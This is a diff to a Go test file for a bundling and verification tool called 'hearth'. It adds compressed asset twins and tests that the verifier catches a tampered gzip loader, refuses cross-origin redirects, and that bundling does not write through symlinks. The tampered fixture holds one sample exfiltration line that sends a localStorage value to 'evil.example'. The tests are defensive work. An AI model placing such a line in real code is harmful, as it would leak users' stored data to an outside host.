@@ -19,6 +19,7 @@ import (
 
 	"hearth/manifest"
 	"hearth/server"
+	bundlepkg "hearth/tool/bundle"
 )
 
 // fakeBundle stands in for what `make hearth` embeds: a manifest and its files.
@@ -35,6 +36,10 @@ func fakeBundle(t *testing.T) fs.FS {
 		}
 		m.Files[logical] = manifest.Asset{File: name, Bytes: len(body), SHA256: hex.EncodeToString(sum[:]), Hashed: logical != manifest.Loader}
 		bundle[name] = &fstest.MapFile{Data: []byte(body)}
+		gz, _ := bundlepkg.Gzip([]byte(body))
+		br, _ := bundlepkg.Brotli([]byte(body))
+		bundle[name+".gz"] = &fstest.MapFile{Data: gz}
+		bundle[name+".br"] = &fstest.MapFile{Data: br}
 	}
 	b, _ := json.Marshal(m)
 	bundle[manifest.File] = &fstest.MapFile{Data: b}
@@ -135,5 +140,63 @@ func TestServe(t *testing.T) {
 	cancel()
 	if err := <-done; err != nil {
 		t.Errorf("serve after stop: %v", err)
+	}
+}
+
+// verify -url compares every representation a browser can get: a tampered
+// gzip twin of the loader (which carries no SRI of its own) is what
+// browsers receive, and verify names it (#24.3); a redirect to another
+// origin is refused, as browsers refuse the worker from there (#24.9).
+func TestVerifyEveryCodingAndOrigin(t *testing.T) {
+	bundle := fakeBundle(t).(fstest.MapFS)
+	good, _ := server.New(bundle, nil)
+	tampered := fstest.MapFS{}
+	for k, v := range bundle {
+		tampered[k] = v
+	}
+	bad, _ := bundlepkg.Gzip([]byte("/* loader */ fetch('//evil.example/?' + localStorage['hearth:v1'])"))
+	tampered["hearth.js.gz"] = &fstest.MapFile{Data: bad}
+	h, err := server.New(tampered, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(h)
+	defer srv.Close()
+	var out bytes.Buffer
+	err = run(context.Background(), []string{"verify", "-url", srv.URL}, &out, io.Discard)
+	if err == nil || !strings.Contains(out.String(), "DIFF hearth.js (hearth.js, as gzip)") {
+		t.Errorf("verify -url of a site whose gzip loader is tampered = %v:\n%s", err, out.String())
+	}
+	other := httptest.NewServer(good)
+	defer other.Close()
+	redirect := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, other.URL+r.URL.Path, http.StatusFound)
+	}))
+	defer redirect.Close()
+	out.Reset()
+	err = run(context.Background(), []string{"verify", "-url", redirect.URL}, &out, io.Discard)
+	if err == nil || !strings.Contains(out.String(), "another origin") {
+		t.Errorf("verify -url of a site that redirects the bundle to another origin = %v:\n%s", err, out.String())
+	}
+}
+
+// bundle -out replaces a symlink in the directory instead of writing
+// through it (#24.8).
+func TestBundleDoesNotFollowSymlinks(t *testing.T) {
+	fakeBundle(t)
+	dir := t.TempDir()
+	outside := filepath.Join(t.TempDir(), "precious.txt")
+	os.WriteFile(outside, []byte("the owner's file"), 0o644)
+	if err := os.Symlink(outside, filepath.Join(dir, "hearth.js")); err != nil {
+		t.Fatal(err)
+	}
+	if err := run(context.Background(), []string{"bundle", "-out", dir}, io.Discard, io.Discard); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(outside); string(b) != "the owner's file" {
+		t.Errorf("bundle wrote through a symlink: the file outside the directory now holds %q", b)
+	}
+	if fi, err := os.Lstat(filepath.Join(dir, "hearth.js")); err != nil || !fi.Mode().IsRegular() {
+		t.Errorf("hearth.js in the directory is not a regular file after bundle: %v %v", fi, err)
 	}
 }
